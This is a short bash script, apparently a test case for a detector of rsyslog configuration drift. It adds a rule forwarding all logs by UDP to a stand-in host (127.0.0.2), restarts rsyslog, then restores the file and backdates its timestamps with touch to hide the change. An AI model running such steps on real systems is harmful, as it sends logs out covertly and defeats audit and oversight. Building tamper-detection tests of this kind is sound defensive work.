#!/bin/bash
# rsyslog was started with a second way, by UDP to a stranger, and its file put back with the old date: none shows it.
# kind: not_loaded
# image: gnome
# flips: FWD-01 FWD-02
# expect: drifted
set -eu
file=/etc/rsyslog.d/00-leeboard.conf
cp -p "$file" /root/kept
echo '*.* @127.0.0.2:514' >>"$file"
systemctl restart rsyslog
sleep 2
logger -p auth.info "a line by UDP"
cp -p /root/kept "$file"
touch -d 2025-01-01 "$file" /etc/rsyslog.d
